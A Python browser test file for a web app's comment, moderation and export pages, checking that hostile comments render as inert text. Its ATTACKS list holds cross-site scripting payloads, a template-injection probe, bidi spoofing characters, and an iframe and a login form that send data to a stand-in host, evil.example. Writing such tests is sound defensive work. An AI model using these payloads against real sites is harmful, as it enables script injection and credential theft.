"""Comments that try to run script, to look like something else, or to call somebody."""

from __future__ import annotations

from app.web.site.file import page_as_html

ATTACKS = (
    "<script>window.hurt = 1</script>",
    "<img src=x onerror='window.hurt = 1'>",
    '"><svg onload="window.hurt = 1">',
    "' autofocus onfocus='window.hurt = 1' x='",
    "javascript:window.hurt=1",
    "[click](javascript:window.hurt=1)",
    "<a href='javascript:window.hurt=1'>click</a>",
    "</script></style></textarea></title><script>window.hurt = 1</script>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${window.hurt = 1}",
    "<iframe src='https://evil.example/'></iframe><link rel=stylesheet href=//evil.example/x>",
    "<form action=https://evil.example/><input name=key><button>Sign in</button></form>",
    "]]>--><!--",
    "\u202eytnuoB\u202c \u2066isolated",
    "&lt;script&gt;window.hurt = 1&lt;/script&gt;",
)

RIGHT_TO_LEFT = "شركة النقل هي المسؤولة عن الحريق"


def hostile_page() -> dict:
    """Return a page in which every string is an attack."""
    comments = [
        {
            "id": attack,
            "author": attack,
            "text": f"{attack} Veltra Transit is behind this. {attack}",
        }
        for attack in ATTACKS
    ]
    comments.append({"author": "قارئ", "text": RIGHT_TO_LEFT})
    return {
        "url": "javascript:window.hurt=1",
        "title": ATTACKS[7],
        "article": "\n\n".join(ATTACKS),
        "event": ATTACKS[0],
        "account": ATTACKS[2],
        "actors": [
            {"id": "veltra", "name": "Veltra Transit", "aliases": [ATTACKS[1]]},
            {"id": ATTACKS[3], "name": ATTACKS[1]},
        ],
        "comments": comments,
    }


def paths_of(page_id: str) -> list[str]:
    """Return the pages on which a hostile page shows."""
    return [
        f"/pages/{page_id}",
        "/",
        "/claims?label=any",
        "/actors?name=Veltra+Transit",
        "/campaigns",
        "/moderation?label=any",
        f"/moderation?page={page_id}&label=any",
        "/search?q=behind",
        "/search?q=%3Cscript%3Ewindow.hurt%3D1%3C%2Fscript%3E",
        f"/pages/{page_id}?author=%3Cscript%3E&near=%22%3E%3Csvg+onload%3D1%3E",
    ]


def test_no_string_of_a_commenter_runs_or_calls(open_tab, listening):
    """Whatever they write is shown as it is written, on every page; the tab watches the rest."""
    page_id = listening.add(hostile_page())
    tab = open_tab("/")

    for path in paths_of(page_id):
        tab.goto(listening.address + path)
        assert tab.evaluate("window.hurt") is None, path
        scripts = tab.locator("script").evaluate_all("all => all.map(e => e.src + e.text)")
        assert all("/static/" in each for each in scripts), path
        links = tab.locator("a").evaluate_all("all => all.map(e => e.protocol)")
        assert set(links) <= {"http:"}, path
        goals = "all => all.map(e => e.getAttribute('action') || '/')"
        assert all(each.startswith("/") for each in tab.locator("form").evaluate_all(goals)), path
        assert tab.locator("iframe, object, embed, base").count() == 0
    tab.goto(f"{listening.address}/pages/{page_id}")
    for at, attack in enumerate(ATTACKS, start=1):
        assert attack in tab.locator(f"#c-{at} .words").text_content()


def test_a_hostile_page_can_be_worked_with(open_tab, listening):
    """Ids that are attacks neither break filters nor decisions nor the picture."""
    page_id = listening.add(hostile_page())
    tab = open_tab(f"/pages/{page_id}")

    tab.get_by_label("Says").select_option("support")
    assert tab.locator(".post:not([hidden])").count() >= len(ATTACKS)
    tab.locator("#c-2").get_by_role("link", name="Its ties only").click()
    tab.reload()
    assert tab.locator("#c-2").is_visible()
    tab.goto(f"{listening.address}/pages/{page_id}/picture.svg")
    assert tab.evaluate("window.hurt") is None

    tab.goto(f"{listening.address}/moderation?page={page_id}")
    tab.get_by_label("You decide as").fill("<b>Mo</b>")
    case = tab.locator(".case").first
    case.get_by_label("Reason").fill("<img src=x onerror=window.hurt=1>")
    case.get_by_role("button", name="Reject").click()
    tab.locator(".case.done").get_by_role("button", name="Undo").wait_for()
    tab.reload()
    assert "<b>Mo</b>" in tab.locator(".ledger").inner_text()
    assert tab.evaluate("window.hurt") is None


def test_right_to_left_text_reads_so(open_tab, listening, keep_picture):
    """A comment in Arabic begins at the right, its author's name does not turn the line around."""
    page_id = listening.add(hostile_page())
    tab = open_tab(f"/pages/{page_id}")
    last = tab.locator(f"#c-{len(ATTACKS) + 1}")
    last.scroll_into_view_if_needed()

    assert last.locator(".words").evaluate("e => getComputedStyle(e).direction") == "rtl"
    assert last.locator(".by").evaluate("e => getComputedStyle(e).direction") == "ltr"
    keep_picture(tab, "right-to-left")


def test_the_file_to_mail_runs_nothing_of_theirs(chromium, listening, tmp_path):
    """The same page as a file: its own script runs, theirs does not, and nobody is called."""
    service = listening.service
    page_id = listening.add(hostile_page())
    mined = service.page(page_id)
    file = tmp_path / "hostile.html"
    file.write_bytes(page_as_html(mined, service.explain(mined)))
    context = chromium.new_context()
    tab = context.new_page()
    asked, said = [], []
    tab.on("request", lambda request: asked.append(request.url))
    tab.on("console", lambda message: said.append(message.text))
    tab.goto(file.as_uri())

    assert tab.evaluate("window.hurt") is None
    assert tab.locator("body.live").count() == 1
    assert (asked, said) == ([file.as_uri()], [])
    context.close()
